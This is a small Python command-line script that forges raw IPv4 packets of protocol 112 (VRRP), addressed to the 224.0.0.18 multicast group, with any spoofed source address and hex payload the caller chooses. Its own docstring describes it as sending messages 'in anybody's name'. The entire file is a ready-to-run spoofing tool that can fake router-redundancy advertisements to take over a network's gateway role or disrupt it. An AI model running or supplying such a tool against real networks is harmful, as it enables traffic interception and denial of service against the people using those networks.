"""Sends messages of protocol 112 in anybody's name; standard library only: forger112.py SOURCE HOPS MESSAGE... (as hex)"""

import socket
import struct
import sys

GROUP = "224.0.0.18"


def main() -> None:
    source, hops, *messages = sys.argv[1:]
    link = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    through = struct.pack("=4s4si", bytes(4), bytes(4), socket.if_nametoindex("eth0"))
    link.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, through)
    ends = socket.inet_aton(source) + socket.inet_aton(GROUP)
    for message in messages:  # the kernel fills in length and checksum
        header = struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, int(hops), 112, 0) + ends
        link.sendto(header + bytes.fromhex(message), (GROUP, 0))


if __name__ == "__main__":
    main()
